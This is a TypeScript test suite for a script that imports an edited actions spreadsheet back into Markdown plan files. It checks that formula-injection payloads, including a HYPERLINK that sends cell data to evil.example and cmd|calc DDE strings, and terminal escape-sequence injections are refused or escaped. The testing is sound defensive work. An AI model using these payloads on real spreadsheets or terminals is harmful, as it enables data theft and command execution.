/**
 * `npm run import` (src/authoring/import.ts, scripts/import.ts): the published actions.csv,
 * edited in a spreadsheet, goes back into the action files. Only status, RAG and progress
 * change; every other byte of every file stays as it was; any bad row means nothing is written.
 */
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { importActions, parseCellDate } from '../../src/authoring/import.ts';
import { nodeWriter, temporaryPath } from '../../src/authoring/write-files.ts';
import { checkContent } from '../../src/model/check.ts';
import { actionColumns } from '../../src/open-data/actions-csv.ts';
import { parseCsv } from '../../src/open-data/csv.ts';
import { md, validTree, writeTree, type ContentTree, type Tree } from '../helpers/content-tree.ts';
import { edited, publishedCsv, spreadsheetCsv } from './csv-files.ts';
import { changedFiles, runScript, snapshotFiles } from './files.ts';

let tree: ContentTree | undefined;
afterEach(() => {
  tree?.remove();
  tree = undefined;
});

const crlf = (text: string) => text.replace(/\n/g, '\r\n');

/** validTree plus actions written in every style an author (or an editor) might use. */
function styledTree(): Tree {
  return {
    ...validTree(),
    // Windows line endings, a byte-order mark, comments and a quoted status with a comment after it.
    'hampshire/actions/windows-file.md':
      '\uFEFF' +
      crlf(md`
        ---
        # Written on a work PC.
        title: 'Audit: neglect cases'
        order: 2
        objective: understand-neglect
        groups: [training-sub-group]
        status: "in-progress"  # as at March
        progress:
          - date: 2021-01-15
            text: Audit started.
        ---
        The audit's *description*.
      `),
    // Flow lists, a folded title, no status, no progress, a body without a final newline.
    'hampshire/actions/flow-style.md': md`
      ---
      title: >-
        Review the neglect
        toolkit
      order: 3
      objective: understand-neglect
      years: [2020-21, 2021-22]
      ---
      Body text.
    `.trimEnd(),
    // An empty progress list and a RAG rating, with items at the key's own column.
    'hampshire/actions/empty-progress.md': md`
      ---
      title: Evaluate the training
      order: 4
      objective: understand-neglect
      groups:
      - training-sub-group
      status: delayed
      rag: red
      progress: []
      ---
    `,
  };
}

function setUp(extra: Tree = {}) {
  tree = writeTree({ ...styledTree(), ...extra });
  const csvPath = path.join(tree.root, 'actions.csv');
  return { csvPath, contentDir: tree.contentDir, write: (text: string) => writeFileSync(csvPath, text) };
}

const read = (file: string) => readFileSync(path.join(tree!.contentDir, 'hampshire/actions', file), 'utf8');

/** The report with the temporary folder's path taken out. */
const stable = (report: string) => report.split(`${tree!.root}/`).join('');

describe('npm run import', () => {
  it('changes nothing, byte for byte, when the published CSV comes back unchanged', () => {
    const { csvPath, contentDir, write } = setUp();
    write(publishedCsv(contentDir));
    const before = snapshotFiles(contentDir);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode).toBe(0);
    expect(result.changes).toEqual([]);
    expect(stable(result.report)).toMatchInlineSnapshot(`"No changes: every action in actions.csv already matches its file (4 checked)."`);
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });

  it('changes the status line of exactly one file for one changed status, and records the change as a dated update', () => {
    const { csvPath, contentDir, write } = setUp();
    write(edited(publishedCsv(contentDir), { 'deliver-training': { status: 'complete' } }));
    const before = snapshotFiles(contentDir);
    const result = importActions({ csvPath, contentDir, today: '2021-07-15' });
    expect(result.exitCode).toBe(0);
    const after = snapshotFiles(contentDir);
    expect(changedFiles(before, after)).toEqual(['hampshire/actions/deliver-training.md']);
    const oldLines = before.get('hampshire/actions/deliver-training.md')!.split('\n');
    const newLines = after.get('hampshire/actions/deliver-training.md')!.split('\n');
    // The status line changes in place; the only other change is one progress entry added at the end of the list.
    expect(newLines.filter((line) => !oldLines.includes(line))).toEqual([
      'status: complete',
      '  - date: 2021-07-15',
      '    status: complete',
      '    text: Status changed from in progress to complete (imported from a spreadsheet).',
    ]);
    expect(oldLines.filter((line) => !newLines.includes(line))).toEqual(['status: in-progress']);
    const action = checkContent(contentDir)
      .index.partnership('hampshire')!
      .actions.find((a) => a.id === 'deliver-training')!;
    expect(action.entry.data.progress.at(-1)).toEqual({
      date: '2021-07-15',
      status: 'complete',
      text: 'Status changed from in progress to complete (imported from a spreadsheet).',
    });
    expect(stable(result.report)).toMatchInlineSnapshot(`
      "content/hampshire/actions/deliver-training.md
          status: in-progress → complete
          progress: + 2021-07-15: "Status changed from in progress to complete (imported fro..."

      Updated 1 file; 3 actions already up to date.
      Run \`npm run check\`, then preview with \`npm run dev\`."
    `);
  });

  it('leaves a status the spreadsheet leaves empty, as the site publishes "no status reported"', () => {
    const { csvPath, contentDir, write } = setUp();
    write(edited(publishedCsv(contentDir), { 'deliver-training': { status: '' } }));
    const before = snapshotFiles(contentDir);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode, result.report).toBe(0);
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });

  it('imports a lead and a due date, and refuses a due date the plan cannot use', () => {
    const { csvPath, contentDir, write } = setUp();
    write(edited(publishedCsv(contentDir), { 'deliver-training': { lead: 'Head of Safeguarding, ICB', due: 'Q3 2021-22' } }));
    expect(importActions({ csvPath, contentDir }).exitCode).toBe(0);
    const data = checkContent(contentDir)
      .index.partnership('hampshire')!
      .actions.find((a) => a.id === 'deliver-training')!.entry.data;
    expect(data.lead).toEqual(['Head of Safeguarding, ICB']);
    expect(data.due).toEqual({ written: 'Q3 2021-22', kind: 'quarter', by: '2021-12-31' });
    // Exported again, and imported unchanged: nothing changes.
    const before = snapshotFiles(contentDir);
    write(publishedCsv(contentDir));
    expect(importActions({ csvPath, contentDir }).changes).toEqual([]);
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
    write(edited(publishedCsv(contentDir), { 'deliver-training': { due: 'next spring' } }));
    expect(stable(importActions({ csvPath, contentDir }).report)).toContain('due: "next spring" is not a due date the plan can use');
  });

  it('appends exactly one progress entry for a new update, and not again on a second import', () => {
    const { csvPath, contentDir, write } = setUp();
    write(
      edited(publishedCsv(contentDir), {
        'deliver-training': {
          last_update_date: '2021-06-30',
          last_update_by: 'Training Sub-Group',
          last_update_text: 'All sessions delivered.\n\n120 staff attended: see the *report*.',
        },
      }),
    );
    const before = read('deliver-training.md');
    expect(importActions({ csvPath, contentDir }).exitCode).toBe(0);
    const after = read('deliver-training.md');
    const added = [
      '  - date: 2021-06-30',
      '    by: Training Sub-Group',
      '    text: |-',
      '      All sessions delivered.',
      '',
      '      120 staff attended: see the *report*.',
      '',
    ].join('\n');
    expect(after).toBe(before.replace('\n---\nDeliver', `\n${added}---\nDeliver`));
    const action = checkContent(contentDir)
      .index.partnership('hampshire')!
      .actions.find((a) => a.id === 'deliver-training')!;
    expect(action.entry.data.progress).toHaveLength(3);
    expect(action.entry.data.progress[2]).toEqual({
      date: '2021-06-30',
      by: 'Training Sub-Group',
      text: 'All sessions delivered.\n\n120 staff attended: see the *report*.',
    });

    // The site now publishes that update as the latest: importing its CSV changes nothing.
    write(publishedCsv(contentDir));
    const again = importActions({ csvPath, contentDir });
    expect(again.changes).toEqual([]);
    expect(read('deliver-training.md')).toBe(after);
  });

  it('keeps a Windows file Windows: CRLF, byte-order mark, comments and quoting', () => {
    const { csvPath, contentDir, write } = setUp();
    write(
      edited(publishedCsv(contentDir), {
        'windows-file': { status: 'complete', rag: 'green', last_update_date: '2021-03-31', last_update_text: 'Audit finished.' },
      }),
    );
    expect(importActions({ csvPath, contentDir }).exitCode).toBe(0);
    const after = read('windows-file.md');
    expect(after.startsWith('\uFEFF---\r\n# Written on a work PC.\r\n')).toBe(true);
    expect(after.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(after).toBe(
      '\uFEFF' +
        crlf(md`
          ---
          # Written on a work PC.
          title: 'Audit: neglect cases'
          order: 2
          objective: understand-neglect
          groups: [training-sub-group]
          status: "complete"  # as at March
          rag: green
          progress:
            - date: 2021-01-15
              text: Audit started.
            - date: 2021-03-31
              status: complete
              rag: green
              text: Audit finished.
          ---
          The audit's *description*.
        `),
    );
  });

  it('inserts fields a file does not have, removes a cleared RAG and fills an empty list', () => {
    const { csvPath, contentDir, write } = setUp();
    write(
      edited(publishedCsv(contentDir), {
        'flow-style': { status: 'ongoing', last_update_date: '2021-05-01', last_update_text: 'Started: "phase one".' },
        'empty-progress': {
          rag: '',
          last_update_date: '2021-05-02',
          last_update_by: 'Business Manager',
          last_update_text: 'Back on track.',
        },
      }),
    );
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode).toBe(0);
    expect(read('flow-style.md')).toBe(
      md`
        ---
        title: >-
          Review the neglect
          toolkit
        order: 3
        objective: understand-neglect
        years: [2020-21, 2021-22]
        status: ongoing
        progress:
          - date: 2021-05-01
            status: ongoing
            text: 'Started: "phase one".'
        ---
        Body text.
      `.trimEnd(),
    );
    expect(read('empty-progress.md')).toBe(md`
      ---
      title: Evaluate the training
      order: 4
      objective: understand-neglect
      groups:
      - training-sub-group
      status: delayed
      progress:
        - date: 2021-05-02
          by: Business Manager
          text: Back on track.
      ---
    `);
    expect(stable(result.report)).toMatchInlineSnapshot(`
      "content/hampshire/actions/flow-style.md
          status: (none reported) → ongoing
          progress: + 2021-05-01: "Started: "phase one"."
      content/hampshire/actions/empty-progress.md
          rag: red → (none)
          progress: + 2021-05-02 by Business Manager: "Back on track."

      Updated 2 files; 2 actions already up to date.
      Run \`npm run check\`, then preview with \`npm run dev\`."
    `);
  });

  it('reads a CSV saved by Excel: byte-order mark, CRLF, UK dates, "In Progress", multi-line cells', () => {
    const { csvPath, contentDir, write } = setUp();
    const header = actionColumns.join(',');
    const cells: Record<string, string> = {
      id: 'deliver-training',
      title: 'Deliver neglect training',
      priority: 'Responding to neglect',
      objective: 'Understand neglect across the partnership',
      groups: 'Training Sub-Group',
      reporting_years: '2020-21',
      status: 'In Progress',
      rag: 'Amber',
      last_update_date: '01/07/2021',
      last_update_by: 'Chair',
      last_update_text: '"Line one,\r\nline two"',
      url: '/hampshire/actions/deliver-training/',
    };
    const row = actionColumns.map((c) => cells[c] ?? '').join(',');
    write(`\uFEFF${header}\r\n${row}\r\n`);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode, result.report).toBe(0);
    const action = checkContent(contentDir)
      .index.partnership('hampshire')!
      .actions.find((a) => a.id === 'deliver-training')!;
    expect(action.entry.data.rag).toBe('amber');
    expect(action.entry.data.progress.at(-1)).toEqual({ date: '2021-07-01', by: 'Chair', rag: 'amber', text: 'Line one,\nline two' });
    expect(parseCellDate('31/02/2021')).toBeUndefined();
    expect(parseCellDate('2021-02-28')).toBe('2021-02-28');
  });

  it('reports every bad row by its row number, and writes nothing', () => {
    const { csvPath, contentDir, write } = setUp();
    const csv = edited(publishedCsv(contentDir), {
      'deliver-training': { status: 'compelte' },
      'windows-file': { rag: 'purple', last_update_date: '31/02/2021', last_update_text: 'x' },
      'flow-style': { id: 'flow-styel' },
      'empty-progress': { last_update_date: '2021-05-02' },
    });
    const lines = csv.split('\r\n');
    // A duplicate of the first data row with another status, and a row with a column too many.
    write([...lines.slice(0, 5), lines[1].replace('compelte', 'delayed'), `${lines[2]},extra`, ''].join('\r\n'));
    const before = snapshotFiles(contentDir);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    expect(result.written).toBe(false);
    expect(stable(result.report)).toMatchInlineSnapshot(`
      "error actions.csv row 2
          status: unknown status "compelte"; did you mean "complete"?
          hint: the statuses are not-started, in-progress, delayed, complete, ongoing, cancelled
      error actions.csv row 3
          rag: unknown RAG rating "purple"
          hint: write red, amber, green, or leave it empty for none
      error actions.csv row 3
          last_update_date: "31/02/2021" is not a date
          hint: write it like 2021-09-30 (or 30/09/2021)
      error actions.csv row 4
          id: unknown action "flow-styel" in hampshire; did you mean "flow-style"?
      error actions.csv row 5
          last_update_text: the update has a date but no text
          hint: say what changed, or clear the date to add no update
      error actions.csv row 6
          id: the action "deliver-training" is also in row 2, with a different status, rating, lead, due date or update
          hint: keep one row per action
      error actions.csv row 7
          this row has 22 columns, but the header has 21
          hint: a comma or quote inside a cell may have lost the quotes around it: open the file in a spreadsheet and save it as CSV again

      7 problems found. Nothing was written; fix the spreadsheet and run the import again."
    `);
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });

  it('refuses a file it cannot edit safely, and then writes no file at all', () => {
    const { csvPath, contentDir, write } = setUp({
      'hampshire/actions/one-line-progress.md': md`
        ---
        title: Progress on one line
        order: 5
        objective: understand-neglect
        progress: [{ date: 2021-01-01, text: Started. }]
        ---
      `,
    });
    write(
      edited(publishedCsv(contentDir), {
        'deliver-training': { status: 'complete' },
        'one-line-progress': { last_update_date: '2021-02-01', last_update_text: 'Next step.' },
      }),
    );
    const before = snapshotFiles(contentDir);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    expect(stable(result.report)).toContain('cannot update this file safely for row 6: the list "progress" is written on one line ([...])');
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });

  it('takes the partnership from the url column, or --partnership, or says it cannot tell', () => {
    tree = writeTree({ ...validTree('hampshire'), ...validTree('hounslow') });
    const csvPath = path.join(tree.root, 'actions.csv');
    const fromUrl = edited(publishedCsv(tree.contentDir, 'hounslow'), { 'deliver-training': { status: 'delayed' } });
    writeFileSync(csvPath, fromUrl);
    expect(importActions({ csvPath, contentDir: tree.contentDir, dryRun: true }).changes.map((c) => c.file)).toEqual([
      expect.stringMatching(/content\/hounslow\/actions\/deliver-training\.md$/),
    ]);
    writeFileSync(csvPath, edited(fromUrl, { 'deliver-training': { url: '' } }));
    const unknown = importActions({ csvPath, contentDir: tree.contentDir });
    expect(stable(unknown.report).split('\n').slice(0, 3)).toEqual([
      'error actions.csv row 2',
      '    url: cannot tell which partnership this row belongs to',
      '    hint: add --partnership with one of hampshire, hounslow',
    ]);
    expect(importActions({ csvPath, contentDir: tree.contentDir, partnership: 'hampshire', dryRun: true }).changes).toHaveLength(1);
  });
});

describe('npm run import and spreadsheet formulas', () => {
  /** Updates that start the way a formula does: Markdown lists, a dash for "nobody", a sum in words. */
  const formulaLike: Tree = {
    'hampshire/actions/list-update.md': md`
      ---
      title: '- Dashes and @mentions: a title'
      order: 5
      objective: understand-neglect
      status: in-progress
      progress:
        - date: 2021-04-01
          by: '-'
          text: |-
            - completed audit
            - trained 40 staff
      ---
    `,
    'hampshire/actions/sum-update.md': md`
      ---
      title: Count the referrals
      order: 6
      objective: understand-neglect
      status: in-progress
      progress:
        - date: 2021-04-02
          by: '@Chair'
          text: '=2+2 is four, and +1 more: 5 referrals.'
      ---
    `,
  };

  it('reads back the apostrophes actions.csv adds, so an unchanged export changes nothing, byte for byte', () => {
    const { csvPath, contentDir, write } = setUp(formulaLike);
    const csv = publishedCsv(contentDir);
    expect(csv).toContain(`"'- completed audit\n- trained 40 staff"`);
    write(csv);
    const before = snapshotFiles(contentDir);
    const result = importActions({ csvPath, contentDir });
    expect(stable(result.report)).toBe('No changes: every action in actions.csv already matches its file (6 checked).');
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });

  it('takes a list after a sentence as text, and refuses a new update that starts like a formula, even a list', () => {
    const { csvPath, contentDir, write } = setUp(formulaLike);
    const csv = publishedCsv(contentDir);
    // A list that starts the update reads as a formula to a spreadsheet ("- 1+cmd|..." runs one): refused.
    write(
      edited(csv, {
        'deliver-training': { last_update_date: '2021-06-30', last_update_text: '- sessions delivered\n+ 120 staff attended' },
      }),
    );
    const refused = importActions({ csvPath, contentDir });
    expect(refused.exitCode).toBe(1);
    expect(stable(refused.report)).toContain(
      'last_update_text: "- sessions delivered + 120 staff attended" is a spreadsheet formula, not text',
    );
    expect(refused.report).toContain('for a list, put a sentence first, like "Done:"');
    // The same list after a sentence, and the list already in a file left as it is, go through.
    write(
      edited(csv, {
        'list-update': { last_update_by: '-', last_update_text: '- completed audit\n- trained 40 staff' },
        'deliver-training': { last_update_date: '2021-06-30', last_update_text: 'Done:\n- sessions delivered\n+ 120 staff attended' },
      }),
    );
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode, result.report).toBe(0);
    expect(result.changes.map((c) => c.file)).toEqual([expect.stringMatching(/deliver-training\.md$/)]);
    const action = checkContent(contentDir)
      .index.partnership('hampshire')!
      .actions.find((a) => a.id === 'deliver-training')!;
    expect(action.entry.data.progress.at(-1)).toEqual({ date: '2021-06-30', text: 'Done:\n- sessions delivered\n+ 120 staff attended' });
  });

  it('refuses a formula in any imported column, naming the row, the column and what to do, and writes nothing', () => {
    const { csvPath, contentDir, write } = setUp();
    write(
      edited(publishedCsv(contentDir), {
        'deliver-training': { last_update_date: '2021-06-30', last_update_text: '=HYPERLINK("https://evil.example/?d="&A1,"Report")' },
        'windows-file': { last_update_date: '2021-06-30', last_update_by: '@SUM(1+1)', last_update_text: 'Audit done.' },
        'flow-style': { status: "+cmd|' /C calc'!A0" },
        'empty-progress': { rag: '=1+1', last_update_date: '2021-06-30', last_update_text: "-2+3+cmd|' /C calc'!A0" },
      }),
    );
    const before = snapshotFiles(contentDir);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    expect(stable(result.report)).toMatchInlineSnapshot(`
      "error actions.csv row 2
          last_update_text: "=HYPERLINK("https://evil.example/?d="&A1,"Report")" is a spreadsheet formula, not text
          hint: the import never copies a formula into the plan: start the text with a letter or a digit, not with "=", "+", "-", "@", a tab or a line break (for a list, put a sentence first, like "Done:", and the list on the lines after it)
      error actions.csv row 3
          last_update_by: "@SUM(1+1)" is a spreadsheet formula, not text
          hint: the import never copies a formula into the plan: start the text with a letter or a digit, not with "=", "+", "-", "@", a tab or a line break (for a list, put a sentence first, like "Done:", and the list on the lines after it)
      error actions.csv row 4
          status: "+cmd|' /C calc'!A0" is a spreadsheet formula, not text
          hint: the import never copies a formula into the plan: start the text with a letter or a digit, not with "=", "+", "-", "@", a tab or a line break (for a list, put a sentence first, like "Done:", and the list on the lines after it)
      error actions.csv row 5
          rag: "=1+1" is a spreadsheet formula, not text
          hint: the import never copies a formula into the plan: start the text with a letter or a digit, not with "=", "+", "-", "@", a tab or a line break (for a list, put a sentence first, like "Done:", and the list on the lines after it)
      error actions.csv row 5
          last_update_text: "-2+3+cmd|' /C calc'!A0" is a spreadsheet formula, not text
          hint: the import never copies a formula into the plan: start the text with a letter or a digit, not with "=", "+", "-", "@", a tab or a line break (for a list, put a sentence first, like "Done:", and the list on the lines after it)

      5 problems found. Nothing was written; fix the spreadsheet and run the import again."
    `);
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });
});

/** Text as Excel's "CSV (Comma delimited)" saves it on a UK Windows PC: one Windows-1252 byte per character. */
function windows1252(text: string): Buffer {
  const decoder = new TextDecoder('windows-1252');
  const byteOf = new Map(Array.from({ length: 256 }, (_, b) => [decoder.decode(Uint8Array.of(b)), b]));
  return Buffer.from([...text].map((char) => byteOf.get(char) ?? 0x3f));
}

describe('npm run import and text encodings', () => {
  const update = { last_update_date: '2021-06-30', last_update_text: 'Audit’s cost: £5 – café “done”' };

  it('refuses a Windows-1252 file (Excel\'s "CSV (Comma delimited)"), naming the line and the Save As type, and writes nothing', () => {
    const { csvPath, contentDir } = setUp();
    const csv = edited(publishedCsv(contentDir), { 'windows-file': update }).replace(/^\uFEFF/, '');
    const bytes = windows1252(csv);
    expect(new TextDecoder('windows-1252').decode(bytes)).toBe(csv);
    writeFileSync(csvPath, bytes);
    const before = snapshotFiles(contentDir);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    expect(stable(result.report)).toMatchInlineSnapshot(`
      "error actions.csv:3
          the file is not saved as UTF-8, so its accents and quotes cannot be read for certain: this line has the byte 0x92, which is ’ in Windows-1252 (Excel's "CSV (Comma delimited)") but another character in other encodings
          hint: in Excel, choose File > Save As and the type "CSV UTF-8 (Comma delimited) (*.csv)", then import that file

      1 problem found. Nothing was written; fix the spreadsheet and run the import again."
    `);
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });

  it('refuses Unicode Text (UTF-16, with or without its byte-order mark), and writes nothing', () => {
    const { csvPath, contentDir } = setUp();
    // Excel's "Unicode Text" separates cells with tabs.
    const tsv = parseCsv(edited(publishedCsv(contentDir), { 'windows-file': update }))
      .rows.map((row) => row.join('\t'))
      .join('\r\n');
    const before = snapshotFiles(contentDir);
    const importBytes = (bytes: Buffer) => {
      writeFileSync(csvPath, bytes);
      const result = importActions({ csvPath, contentDir });
      expect(result.exitCode).toBe(1);
      return stable(result.report);
    };
    expect(importBytes(Buffer.from(`\uFEFF${tsv}`, 'utf16le'))).toMatchInlineSnapshot(`
      "error actions.csv
          the file is saved as Unicode Text (UTF-16), not as CSV
          hint: in Excel, choose File > Save As and the type "CSV UTF-8 (Comma delimited) (*.csv)", then import that file

      1 problem found. Nothing was written; fix the spreadsheet and run the import again."
    `);
    expect(importBytes(Buffer.from(tsv, 'utf16le'))).toMatchInlineSnapshot(`
      "error actions.csv
          the file holds NUL characters, so it is not CSV text (it may be saved as Unicode Text)
          hint: in Excel, choose File > Save As and the type "CSV UTF-8 (Comma delimited) (*.csv)", then import that file

      1 problem found. Nothing was written; fix the spreadsheet and run the import again."
    `);
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });

  it('imports CSV UTF-8 with its byte-order mark, CRLF line ends and the columns in another order, accents and all', () => {
    const { csvPath, contentDir } = setUp();
    const [header, ...rows] = parseCsv(edited(publishedCsv(contentDir), { 'windows-file': update })).rows;
    const order = [...header].reverse();
    const text = `\uFEFF${spreadsheetCsv([order, ...rows.map((row) => order.map((name) => row[header.indexOf(name)]))])}`;
    expect(text).toMatch(/^\uFEFFurl,last_update_text,.*\r\n/);
    writeFileSync(csvPath, text);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode, result.report).toBe(0);
    expect(result.changes.map((c) => c.file)).toEqual([expect.stringMatching(/windows-file\.md$/)]);
    const action = checkContent(contentDir)
      .index.partnership('hampshire')!
      .actions.find((a) => a.id === 'windows-file')!;
    expect(action.entry.data.progress.at(-1)).toEqual({ date: '2021-06-30', text: 'Audit’s cost: £5 – café “done”' });
    expect(read('windows-file.md')).toContain("\r\n  - date: 2021-06-30\r\n    text: 'Audit’s cost: £5 – café “done”'\r\n---");
  });
});

describe('npm run import when a file cannot be written', () => {
  /** Three files to change, in this order: deliver-training, windows-file, flow-style. */
  function threeChanges() {
    const setup = setUp();
    setup.write(
      edited(publishedCsv(setup.contentDir), {
        'deliver-training': { status: 'complete' },
        'windows-file': { rag: 'green' },
        'flow-style': { status: 'delayed' },
      }),
    );
    return setup;
  }
  const inUse = () => Object.assign(new Error('EBUSY: resource busy or locked, rename'), { code: 'EBUSY' });

  it('puts back every file already written when a later one fails, and says so', () => {
    const { csvPath, contentDir } = threeChanges();
    const before = snapshotFiles(contentDir);
    const renamed: string[] = [];
    const result = importActions({
      csvPath,
      contentDir,
      writer: {
        ...nodeWriter,
        // As Windows does when the file is open in another program.
        rename(from, to) {
          if (to.endsWith('flow-style.md')) throw inUse();
          nodeWriter.rename(from, to);
          if (to.endsWith('.md')) renamed.push(path.basename(to));
        },
      },
    });
    expect(renamed).toEqual(['deliver-training.md', 'windows-file.md', 'windows-file.md', 'deliver-training.md']);
    expect(result.exitCode).toBe(1);
    expect(result.written).toBe(false);
    expect(stable(result.report)).toMatchInlineSnapshot(`
      "error content/hampshire/actions/flow-style.md
          could not write this file: it is in use by another program (EBUSY)
          hint: close any program that has the file open, check there is space on the disk and that you may change the folder, then run the import again

      Nothing was changed: the 2 files already written were put back exactly as they were (content/hampshire/actions/deliver-training.md, content/hampshire/actions/windows-file.md)."
    `);
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
    expect(readdirSync(path.join(contentDir, 'hampshire/actions')).filter((name) => name.startsWith('.'))).toEqual([]);
  });

  it('writes nothing when a folder stands where a file must be written', () => {
    const { csvPath, contentDir } = threeChanges();
    mkdirSync(temporaryPath(path.join(contentDir, 'hampshire/actions/flow-style.md')));
    const before = snapshotFiles(contentDir);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    expect(stable(result.report)).toMatchInlineSnapshot(`
      "error content/hampshire/actions/flow-style.md
          could not write this file: a folder is in the way (EISDIR)
          hint: close any program that has the file open, check there is space on the disk and that you may change the folder, then run the import again

      Nothing was changed."
    `);
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });

  it('writes nothing when a file is saved in an editor while the import runs', () => {
    const { csvPath, contentDir } = threeChanges();
    const file = path.join(contentDir, 'hampshire/actions/windows-file.md');
    const result = importActions({
      csvPath,
      contentDir,
      writer: {
        ...nodeWriter,
        readFile(name) {
          if (name === file) writeFileSync(file, readFileSync(file, 'utf8').replace('Audit started.', 'Audit started early.'));
          return nodeWriter.readFile(name);
        },
      },
    });
    expect(result.exitCode).toBe(1);
    expect(stable(result.report)).toMatchInlineSnapshot(`
      "error content/hampshire/actions/windows-file.md
          this file changed while the import was running
          hint: run the import again

      Nothing was changed."
    `);
    expect(read('deliver-training.md')).toContain('status: in-progress');
    expect(read('windows-file.md')).toContain('Audit started early.');
    expect(read('flow-style.md')).not.toContain('status:');
  });

  it('names a file it could not put back, and what to do about it', () => {
    const { csvPath, contentDir } = threeChanges();
    let renames = 0;
    const result = importActions({
      csvPath,
      contentDir,
      writer: {
        ...nodeWriter,
        rename(from, to) {
          if (to.endsWith('.md')) renames += 1;
          // The third file fails, and so does putting back the second.
          if (renames === 3 || renames === 4) throw inUse();
          nodeWriter.rename(from, to);
        },
      },
    });
    expect(result.exitCode).toBe(1);
    expect(stable(result.report)).toMatchInlineSnapshot(`
      "error content/hampshire/actions/flow-style.md
          could not write this file: it is in use by another program (EBUSY)
          hint: close any program that has the file open, check there is space on the disk and that you may change the folder, then run the import again
      error content/hampshire/actions/windows-file.md
          this file was changed and could not be put back: it is in use by another program (EBUSY)
          hint: it holds the imported change until it is put back: close any program that has it open, then run \`npm run import -- --recover\`

      The import stopped part-way: 1 file could not be put back (above); the other file already written was put back exactly as it was. The next import, or \`npm run import -- --recover\`, puts it back."
    `);
    expect(read('deliver-training.md')).toContain('status: in-progress');
    expect(read('windows-file.md')).toContain('rag: green');
    // Until it is put back, the check refuses the content (so no site is built from half an
    // import), and the next import puts it back before it does anything else.
    expect(checkContent(contentDir).problems.map((p) => p.message)).toEqual([
      'an import (or migrate) is running, or stopped part-way, so some files may hold part of its changes',
    ]);
    const again = importActions({ csvPath, contentDir, today: '2021-07-15' });
    expect(again.exitCode, again.report).toBe(0);
    expect(stable(again.report).split('\n')[0]).toMatch(
      /^An earlier import \(process \d+, started .* UTC\) stopped part-way, so it has been undone\. The file it had changed is back as it was before it: content\/hampshire\/actions\/windows-file\.md\.$/,
    );
    expect(again.changes).toHaveLength(3);
    expect(checkContent(contentDir).problems).toEqual([]);
  });
});

describe('scripts/import.ts', () => {
  it('--dry-run prints what would change and writes nothing', () => {
    const { csvPath, contentDir, write } = setUp();
    write(edited(publishedCsv(contentDir), { 'deliver-training': { status: 'complete', rag: 'green' } }));
    const before = snapshotFiles(contentDir);
    const run = runScript('import', [path.basename(csvPath), '--dry-run', '--date', '2021-07-15'], tree!.root);
    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    expect(run.stdout).toMatchInlineSnapshot(`
      "content/hampshire/actions/deliver-training.md
          status: in-progress → complete
          rag: (none) → green
          progress: + 2021-07-15: "Status changed from in progress to complete (imported fro..."

      Dry run: 1 file would change; 3 actions already up to date. Nothing was written.
      Run the same command without --dry-run to make these changes.
      "
    `);
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });

  it('never prints the escape sequences a cell holds: it shows them as \\x1b', () => {
    const { csvPath, contentDir, write } = setUp();
    write(
      edited(publishedCsv(contentDir), {
        'deliver-training': {
          last_update_date: '2021-06-30',
          last_update_by: '\u001b[2JBusiness Manager',
          last_update_text: '\u001b]8;;https://evil.example/\u0007All sessions delivered\u001b]8;;\u0007',
        },
      }),
    );
    const dryRun = runScript('import', [path.basename(csvPath), '--dry-run'], tree!.root);
    expect(dryRun.status).toBe(0);
    expect(dryRun.stdout.replace(/\n/g, '')).not.toMatch(/\p{Cc}/u);
    expect(dryRun.stdout).toContain(
      'progress: + 2021-06-30 by \\x1b[2JBusiness Manager: "\\x1b]8;;https://evil.example/\\x07All sessions delivered\\x1b]8;;\\x07"',
    );

    write(edited(publishedCsv(contentDir), { 'deliver-training': { status: 'complete\r\u001b[32mall good' } }));
    const refused = runScript('import', [path.basename(csvPath)], tree!.root);
    expect(refused.status).toBe(1);
    expect(refused.stderr.replace(/\n/g, '')).not.toMatch(/\p{Cc}/u);
    // A lone carriage return inside a cell is a line break, as in every other cell.
    expect(refused.stderr).toContain('status: unknown status "complete\\n\\x1b[32mall good"; did you mean "complete"?');
  });

  it('exits 2 without a file, and 1 with nothing written for a file that does not exist', () => {
    const { contentDir } = setUp();
    expect(runScript('import', [], tree!.root).status).toBe(2);
    const run = runScript('import', ['missing.csv'], tree!.root);
    expect(run.status).toBe(1);
    expect(run.stderr).toMatchInlineSnapshot(`
      "error missing.csv
          there is no such file
          hint: give the path of the CSV file you saved, like: npm run import -- actions.csv

      1 problem found. Nothing was written; fix the spreadsheet and run the import again.
      "
    `);
    expect(snapshotFiles(contentDir).size).toBe(11);
  });
});
